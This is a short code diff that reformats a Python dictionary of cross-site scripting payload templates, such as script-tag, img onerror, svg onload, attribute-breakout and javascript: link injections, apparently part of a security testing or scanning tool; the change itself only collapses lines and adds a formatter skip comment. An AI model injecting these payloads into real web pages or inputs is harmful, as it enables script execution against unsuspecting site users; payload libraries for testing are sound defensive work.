@@ -188,21 +188,14 @@ def _archive(to: Fill) -> bytes:
 
 
 _PAGE: Final = {
-    "script": "<script>{0}()</script>",
-    "closed": "</script><script>{0}()</script>",
-    "image": "<img src=x onerror={0}()>",
-    "svg": "<svg/onload={0}()>",
-    "double-quote": '"><img src=x onerror={0}()>',
-    "single-quote": "'><svg onload={0}()>",
-    "attribute": '" onmouseover="{0}()" x="',
-    "attribute-single": "' onfocus='{0}()' x='",
-    "link": '<a href="javascript:{0}()">x</a>',
-    "tab": '<a href="java\tscript:{0}()">x</a>',
-    "frame": "<iframe srcdoc='<script>{0}()</script>'></iframe><{0}>",
-    "comment": "--><script>{0}()</script><!--",
-    "title": "</title></style></textarea><script>{0}()</script>",
+    "script": "<script>{0}()</script>", "closed": "</script><script>{0}()</script>",
+    "image": "<img src=x onerror={0}()>", "svg": "<svg/onload={0}()>", "double-quote": '"><img src=x onerror={0}()>',
+    "single-quote": "'><svg onload={0}()>", "attribute": '" onmouseover="{0}()" x="',
+    "attribute-single": "' onfocus='{0}()' x='", "link": '<a href="javascript:{0}()">x</a>',
+    "tab": '<a href="java\tscript:{0}()">x</a>', "frame": "<iframe srcdoc='<script>{0}()</script>'></iframe><{0}>",
+    "comment": "--><script>{0}()</script><!--", "title": "</title></style></textarea><script>{0}()</script>",
     "cdata": "]]><script>{0}()</script>",
-}
+}  # fmt: skip
 
 _MARKDOWN: Final = {
     "html": "*<img src=x onerror={0}()>*",
